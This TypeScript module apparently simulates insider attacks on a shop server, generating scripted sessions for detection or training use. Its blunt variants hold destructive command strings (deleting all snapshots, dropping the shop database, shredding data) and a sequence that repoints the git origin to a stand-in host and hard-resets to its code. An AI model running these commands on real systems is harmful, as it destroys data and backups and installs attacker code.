import type { Dice } from '../dice.js';
import { HOUR_MS, MINUTE_MS } from '../routine-people.js';
import { follow, runbooksFor, stepsOf } from '../runbooks.js';
import { openShell, reconnaissance } from './actions.js';
import { enter, insider } from './quiet.js';
import type { Script, Stage } from './stage.js';
import { attackerPeer, Clock } from './stage.js';

function knownSteps({ site, known, dice }: Stage, by: 'operations' | 'release'): string[] {
  const books = runbooksFor(site.kind).filter((book) => book.by === by);
  const seen = books.filter(({ steps }) => steps.every(({ command }) => known.ran(command)));
  const steps = stepsOf(dice.pick(seen.length > 0 ? seen : books).steps, dice);
  return seen.length > 0 ? steps : steps.filter((command) => known.ran(command));
}

/** The steps in an order that is never right: backwards in pairs, or without the beginning and then once more. */
function misused(steps: readonly string[], dice: Dice): string[] {
  const half = Math.ceil(steps.length / 2);
  return dice.chance(0.5)
    ? [...steps].reverse()
    : [...steps.slice(half), ...steps.slice(1, half), ...steps.slice(half)];
}

/** The very commands of a runbook, out of order: the aim is not what the runbook is for. */
export const runbookMisuse: Script = (stage) => {
  const { site, known, careful, dice, step, midnightMs } = stage;
  const who = insider(stage, (person) => person.sudo && person.role === 'administrator');
  const fromMs = midnightMs + (careful ? dice.between(9, 15) : dice.between(1, 4)) * HOUR_MS;
  const toMs = fromMs + 45 * MINUTE_MS;
  const shell = { site, user: who.name, tty: 'pts/0', fromMs, toMs };
  if (careful) {
    const address = known.ownAddress(who.name);
    step('sign-in', site, () => enter(stage, { user: who.name, address, fromMs, lastsMs: 45 * MINUTE_MS }));
    step('misuse', site, () => {
      let atMs = fromMs + 40_000;
      for (let n = 0; n < 2; n++)
        atMs = follow(shell, misused(knownSteps(stage, 'operations'), dice), atMs, dice) + 60_000;
    });
    return;
  }
  step('sign-in', site, () => openShell(site, attackerPeer(stage), who.name, fromMs, toMs, who.key));
  step('reconnaissance', site, () => reconnaissance(shell, new Clock(fromMs + 9000, 20_000, dice), dice));
  step('misuse', site, () => {
    const commands = [
      '/opt/restore/bin/delete-snapshots --all',
      '/opt/ca/bin/sign ca',
      '/opt/pg/bin/drop shop',
      '/usr/bin/shred -u /srv/shop/data',
    ];
    follow(shell, commands, fromMs + 200_000, dice, 20_000);
  });
};

/** A release by one who may release, from where he never does and when nobody does. */
export const strayRelease: Script = (stage) => {
  const { site, known, careful, dice, step, midnightMs } = stage;
  const who = insider(stage, (person) => person.sudo && person.role !== 'administrator');
  const fromMs = midnightMs + (careful ? dice.between(18.5, 20.5) : dice.between(1, 4)) * HOUR_MS;
  const toMs = fromMs + 30 * MINUTE_MS;
  const shell = { site, user: who.name, tty: 'pts/0', fromMs, toMs };
  if (careful) {
    const address = known.strangeAddress(who.name, dice, site.exposed === 'no');
    step('sign-in', site, () => enter(stage, { user: who.name, address, fromMs, lastsMs: 30 * MINUTE_MS }));
    step('release', site, () => follow(shell, knownSteps(stage, 'release'), fromMs + 40_000, dice));
    return;
  }
  step('sign-in', site, () => openShell(site, attackerPeer(stage), who.name, fromMs, toMs, who.key));
  step('reconnaissance', site, () => reconnaissance(shell, new Clock(fromMs + 9000, 15_000, dice), dice));
  step('release', site, () => {
    const commands = [
      '/usr/bin/git -C /srv/shop remote set-url origin http://192.0.2.91/x',
      '/usr/bin/git -C /srv/shop reset --hard x',
      '/usr/bin/systemctl restart shop-agent',
    ];
    follow(shell, commands, fromMs + 200_000, dice, 15_000);
  });
};
